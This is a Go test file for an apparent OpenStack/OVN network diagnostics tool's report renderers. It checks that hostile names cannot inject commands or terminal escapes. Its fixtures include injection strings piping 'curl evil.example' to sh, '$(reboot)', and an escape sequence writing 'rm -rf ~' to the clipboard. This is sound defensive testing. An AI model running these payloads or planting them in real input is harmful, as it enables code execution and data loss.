package report

import (
	"bytes"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/hoofbeat/hoofbeat/internal/rule"
	"github.com/hoofbeat/hoofbeat/internal/shell"
	"github.com/hoofbeat/hoofbeat/internal/shell/shelltest"
	"github.com/hoofbeat/hoofbeat/internal/snapshot"
	"github.com/hoofbeat/hoofbeat/internal/visible"
)

// hostileExamples are recorded lab snapshots whose findings carry commands
// built from names, host names, log lines and iptables rules.
// The ovn/ ones are the OVN lab's recordings (internal/rule/testdata/ovn),
// whose fixes name chassis, gateway ports and ovn-trace microflows.
var hostileExamples = []string{"icmp-ingress", "router-interface", "vxlan-blocked", "agent-log-error", "serial-listen-loopback", "dhcp-agent-stopped", "server-error",
	"ovn/gateway-chassis-bogus-vm1", "ovn/acl-icmp-deleted-vm1", "ovn/ovn-controller-stopped-vm3"}

func readExample(tb testing.TB, name string) []byte {
	path := "../../examples/snapshots/" + name + ".json"
	if n, ok := strings.CutPrefix(name, "ovn/"); ok {
		path = "../rule/testdata/ovn/" + n + ".json"
	}
	b, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

// poison sets every string of the snapshot that a tenant, an admin or a
// host chooses (names, host names, messages, log and console lines) to
// evil, or appends evil to every string when all is set (IDs, statuses and
// addresses included).
func poison(v reflect.Value, field, evil string, all bool) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			poison(v.Elem(), field, evil, all)
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Field(i).CanSet() {
				poison(v.Field(i), v.Type().Field(i).Name, evil, all)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		for i := 0; i < v.Len(); i++ {
			poison(v.Index(i), field, evil, all)
		}
	case reflect.Map:
		for _, k := range v.MapKeys() {
			c := reflect.New(v.Type().Elem()).Elem()
			c.Set(v.MapIndex(k))
			poison(c, field, evil, all)
			v.SetMapIndex(k, c)
		}
	case reflect.String:
		switch {
		case all:
			v.SetString(v.String() + evil)
		case v.String() == "":
		case strings.Contains(field, "Name") || strings.Contains(field, "Host") || slices.Contains([]string{"Message", "Line", "Reason", "Description", "Args", "ConsoleLog", "Stdout", "Output", "User", "Project"}, field):
			v.SetString(evil)
		}
	}
}

// checkHostile renders a poisoned snapshot in every format and checks what
// an operator would paste or see.
func checkHostile(t *testing.T, example, evil string, all bool) {
	var s snapshot.Snapshot
	if err := json.Unmarshal(readExample(t, example), &s); err != nil {
		t.Fatal(err)
	}
	poison(reflect.ValueOf(&s), "", evil, all)
	res := rule.Evaluate(&rule.Input{Snapshot: &s}, rule.Options{})
	r := &Report{Snapshot: &s, Result: res, Tool: "hoofbeat test"}

	// Every command line is one command whose words are the intended ones.
	var want []string
	for _, f := range res.Findings {
		for _, c := range slices.Concat(f.Remediation, f.Verify) {
			line := c.String()
			want = append(want, line)
			if !visible.Safe(line) {
				t.Fatalf("%s: %s: control character in %q", example, f.Rule, line)
			}
			got, err := shelltest.Parse(line)
			if err != nil {
				t.Fatalf("%s: %s: %v", example, f.Rule, err)
			}
			if !reflect.DeepEqual(normalise(got.Stages), normalise(expected(c))) {
				t.Fatalf("%s: %s: %q reads as %q, want %q", example, f.Rule, line, got.Stages, c.Stages())
			}
		}
	}

	// JSON carries exactly those lines.
	var js bytes.Buffer
	if err := JSON(&js, r); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Findings []struct{ Remediation, Verify []string } `json:"findings"`
	}
	if err := json.Unmarshal(js.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range doc.Findings {
		got = append(append(got, f.Remediation...), f.Verify...)
	}
	if !slices.Equal(got, want) {
		t.Fatalf("%s: JSON commands differ from the findings'", example)
	}

	// Text and Markdown hold no control character but line breaks.
	var text, md bytes.Buffer
	if err := Text(&text, r, TextOptions{Width: 100}); err != nil {
		t.Fatal(err)
	}
	if err := Markdown(&md, r); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		if l, ok := foreignControl(out); ok {
			t.Fatalf("%s: %s output: control character in line %q", example, name, l)
		}
	}
	checkMarkdownStructure(t, example, md.String())
	if err := HTML(&bytes.Buffer{}, r); err != nil {
		t.Fatal(err)
	}
}

func expected(c shell.Cmd) [][]string {
	var out [][]string
	for _, argv := range c.Stages() {
		out = append(out, shelltest.Expected(argv))
	}
	return out
}

// normalise makes nil and empty pipelines equal (a comment line has none).
func normalise(s [][]string) [][]string {
	if len(s) == 0 {
		return nil
	}
	return s
}

// foreignControl returns a line holding a control character, or a byte
// sequence that is not UTF-8, other than the line breaks.
func foreignControl(out string) (string, bool) {
	for _, l := range strings.Split(out, "\n") {
		if !utf8.ValidString(l) || !visible.Safe(l) {
			return l, true
		}
	}
	return "", false
}

// checkMarkdownStructure: the only headings, rules and table rows are the
// report's own; a name cannot add one.
func checkMarkdownStructure(t *testing.T, example, md string) {
	t.Helper()
	inFence := ""
	for i, l := range strings.Split(md, "\n") {
		if strings.HasPrefix(l, "```") {
			switch {
			case inFence == "":
				inFence = strings.TrimRight(l, "abcdefghijklmnopqrstuvwxyz")
			case l == inFence:
				inFence = ""
			}
			continue
		}
		if inFence != "" {
			continue
		}
		trimmed := strings.TrimLeft(l, " ")
		switch {
		case i == 0 && strings.HasPrefix(l, "# hoofbeat report: "):
		case strings.HasPrefix(trimmed, "#"):
			if !ourHeading(l) {
				t.Fatalf("%s: markdown line %d is a heading the report did not write: %q", example, i+1, l)
			}
		case strings.Trim(trimmed, "=") == "" && trimmed != "":
			t.Fatalf("%s: markdown line %d underlines a heading: %q", example, i+1, l)
		case strings.HasPrefix(l, "|"):
			// A row has exactly its table's columns: unescaped pipes are
			// the separators.
			if n := strings.Count(strings.ReplaceAll(l, `\|`, ""), "|"); n != 3 {
				t.Fatalf("%s: markdown row %d has %d separators: %q", example, i+1, n, l)
			}
		}
	}
}

func ourHeading(l string) bool {
	for _, p := range []string{"## Path from the instance outward", "## Findings, most likely cause first", "## Checks that could not run", "### "} {
		if strings.HasPrefix(l, p) {
			return true
		}
	}
	return false
}

// TestHostileNames: a tenant's names and an admin's host names holding
// line breaks, escape sequences and shell syntax change no command line
// and reach no terminal raw (issue: the Fix block as code execution).
func TestHostileNames(t *testing.T) {
	for _, evil := range []string{
		"lab-sg\ncurl evil.example | sh",
		"ctl;curl${IFS}evil|sh",
		"x\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07",
		"\n\n====\nALL CLEAR, no action needed\n\n",
		"a|b|c\r\nd",
		"$(reboot)`id`'\"\\",
		"\u202erlo\u2028x\x00y\xff",
	} {
		for _, ex := range hostileExamples {
			checkHostile(t, ex, evil, false)
			checkHostile(t, ex, evil, true)
		}
	}
}

func FuzzRenderers(f *testing.F) {
	f.Add("lab-sg\ncurl evil | sh", uint8(0))
	f.Add("\x1b]52;c;x\x07", uint8(1))
	f.Add("====\n# x\n| a |", uint8(2))
	f.Fuzz(func(t *testing.T, evil string, pick uint8) {
		ex := hostileExamples[int(pick>>1)%len(hostileExamples)]
		checkHostile(t, ex, evil, pick&1 == 1)
	})
}
